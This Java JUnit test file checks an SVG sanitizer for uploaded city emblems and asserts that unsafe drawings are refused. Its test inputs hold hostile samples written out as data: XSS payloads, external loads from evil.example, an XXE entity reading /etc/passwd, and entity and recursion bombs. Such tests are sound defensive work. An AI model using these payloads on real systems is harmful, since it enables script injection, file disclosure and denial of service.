package city.accord.emblem;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import city.accord.emblem.EmblemRefused.EmblemNotPlain;
import city.accord.emblem.EmblemRefused.EmblemTooIntricate;
import city.accord.emblem.EmblemRefused.EmblemTooNarrow;
import city.accord.emblem.EmblemRefused.NotAnEmblem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What of an uploaded drawing is kept, and what is refused. */
class SvgEmblemTest {

  private static final String OPENED =
      "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
          + " xmlns:h='http://www.w3.org/1999/xhtml' viewBox='0 0 100 100'>";
  private static final String SHAPE = "<path d='M0 0h100v100z' fill='#b3261e'/>";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<script href='https://evil.example/x.js'/>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<h:script>alert(1)</h:script>",
        "<foreignObject><h:body><h:script>alert(1)</h:script></h:body></foreignObject>",
        "<h:iframe src='https://evil.example'/>",
        "<path d='M0 0' onclick='alert(1)'/>",
        "<path d='M0 0' ONLOAD='alert(1)'/>",
        "<g onbegin='alert(1)'/>",
        "<a href='javascript:alert(1)'><path d='M0 0'/></a>",
        "<use href='javascript:alert(1)'/>",
        "<use xlink:href='https://evil.example/x.svg#a'/>",
        "<use href='other.svg#a'/>",
        "<use href='data:image/svg+xml,%3Csvg/%3E#a'/>",
        "<image href='https://evil.example/pixel.png' width='1' height='1'/>",
        "<image xlink:href='data:image/svg+xml;base64,PHN2Zy8+'/>",
        "<image href='data:image/png;base64,iVBORw0KGgo='/>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>path{fill:url(https://evil.example/x)}</style>",
        "<path d='M0 0' style='fill:url(https://evil.example/x.svg#a)'/>",
        "<path d='M0 0' style='background:url(//evil.example)'/>",
        "<path d='M0 0' style='@import \"x\"'/>",
        "<path d='M0 0' style='fill:\\75rl(x)'/>",
        "<path d='M0 0' style='behavior:url(#default#time2)'/>",
        "<path d='M0 0' fill='url(https://evil.example/#a)'/>",
        "<path d='M0 0' fill='url(\"data:image/svg+xml,x#a\")'/>",
        "<path d='M0 0' clip-path='url(x.svg#a)'/>",
        "<path d='M0 0' filter='url(#blur)'/>",
        "<path d='M0 0' marker-end='url(#arrow)'/>",
        "<path d='M0 0' cursor='url(https://evil.example/c.cur)'/>",
        "<path d='javascript:alert(1)'/>",
        "<animate attributeName='href' to='javascript:alert(1)'/>",
        "<set attributeName='onclick' to='alert(1)'/>",
        "<animateTransform attributeName='transform' dur='1s' repeatCount='indefinite'/>",
        "<animateMotion dur='1s' path='M0 0h9'/>",
        "<discard begin='2s'/>",
        "<filter id='f'><feImage href='https://evil.example'/></filter>",
        "<pattern id='p' width='0.00001' height='1'/>",
        "<marker id='m'/>",
        "<text>Taipei</text>",
        "<video src='x'/>",
        "<handler>alert(1)</handler>",
        "<listener event='click'/>",
        "<svg onload='alert(1)'/>",
        "<svg><path d='M0 0'/></svg>",
        "<g xml:base='https://evil.example/'/>",
      })
  void whatRunsLoadsOrMovesIsRefused(String attack) {
    assertThrows(EmblemNotPlain.class, () -> sanitized(OPENED + SHAPE + attack + "</svg>"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE svg SYSTEM 'https://evil.example/x.dtd' [<!ENTITY % p SYSTEM 'x'> %p;]>",
        "<!DOCTYPE svg><!DOCTYPE svg>",
        "<!DOCTYPE html>",
      })
  void aDocumentTypeThatDeclaresAnythingIsRefused(String doctype) {
    assertThrows(EmblemRefused.class, () -> sanitized(doctype + OPENED + SHAPE + "</svg>"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "emblem",
        "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'>",
        "<svg viewBox='0 0 1 1'><path d='M0 0'/></svg>",
        "<html xmlns='urn:x'><body/></html>",
        "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'/>",
        "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 0 1'><path d='M0 0'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'><path d='&amp;&x;'/></svg>",
      })
  void whatIsNoDrawingIsRefused(String file) {
    assertThrows(NotAnEmblem.class, () -> sanitized(file));
  }

  @Test
  void anotherEncodingThanUtf8IsRefused() {
    byte[] other = (OPENED + SHAPE + "</svg>").getBytes(UTF_16);
    assertThrows(NotAnEmblem.class, () -> SvgEmblem.sanitized(other));
  }

  @Test
  void aFewLinesThatDrawBillionsAreRefused() {
    StringBuilder bomb =
        new StringBuilder(OPENED).append("<g id='a0'>").append(SHAPE).append("</g>");
    for (int i = 1; i < 12; i++) {
      bomb.append("<g id='a").append(i).append("'>");
      bomb.append(("<use href='#a" + (i - 1) + "'/>").repeat(10)).append("</g>");
    }
    assertThrows(EmblemTooIntricate.class, () -> sanitized(bomb + "</svg>"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<g id='a'><use href='#a'/></g>",
        "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>",
        "<mask id='a' mask='url(#a)'><path d='M0 0'/></mask>",
        "<clipPath id='a' clip-path='url(#b)'/><clipPath id='b' clip-path='url(#a)'/>",
      })
  void aShapeWithinItselfIsRefused(String shapes) {
    assertThrows(EmblemTooIntricate.class, () -> sanitized(OPENED + shapes + "</svg>"));
  }

  @Test
  void tooManyShapesOrTooDeepAreRefused() {
    String many = OPENED + SHAPE.repeat(20_001) + "</svg>";
    assertThrows(EmblemTooIntricate.class, () -> sanitized(many));
    String deep = OPENED + "<g>".repeat(100) + SHAPE + "</g>".repeat(100) + "</svg>";
    assertThrows(EmblemTooIntricate.class, () -> sanitized(deep));
  }

  @Test
  void aRibbonIsRefused() {
    assertThrows(
        EmblemTooNarrow.class,
        () -> sanitized(OPENED.replace("0 0 100 100", "0 0 1000 100") + SHAPE + "</svg>"));
  }

  @Test
  void anEditorsNotesAreLeftOut() {
    String drawing =
        "<?xml version='1.0' encoding='UTF-8'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN'"
            + " 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><!-- Inkscape -->"
            + "<svg xmlns='http://www.w3.org/2000/svg' xmlns:i='http://www.inkscape.org/x'"
            + " width='40mm' height='50mm' i:version='1.3' class='x'>"
            + "<title>Emblem</title><metadata><i:x>Anna</i:x></metadata><i:namedview zoom='2'/>"
            + "<path i:label='shield' d='M0 0h40' style='fill:#fff;-inkscape-font:x;opacity:0.5'/>"
            + "</svg>";
    assertEquals(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 40.0 50.0\">"
            + "<path d=\"M0 0h40\" fill=\"#fff\" opacity=\"0.5\"></path></svg>",
        sanitized(drawing));
  }

  @Test
  void whatIsSanitizedStaysTheSameWhenItIsSanitizedAgain() {
    String drawing =
        OPENED
            + "<defs><linearGradient id='g'><stop offset='0' stop-color='red'/></linearGradient>"
            + "<clipPath id='c'><circle r='9'/></clipPath></defs>"
            + "<g clip-path='url(#c)' transform='rotate(10) scale(2)'><use xlink:href='#s'/></g>"
            + "<rect id='s' width='9' height='9' fill='url(#g)' stroke-dasharray='1 2'/></svg>";
    String once = sanitized(drawing);
    assertEquals(once, sanitized(once));
    assertTrue(once.contains("href=\"#s\"") && once.contains("fill=\"url(#g)\""));
    assertFalse(once.contains("xlink"));
  }

  private static String sanitized(String drawing) {
    return new String(SvgEmblem.sanitized(drawing.getBytes(UTF_8)), UTF_8);
  }
}
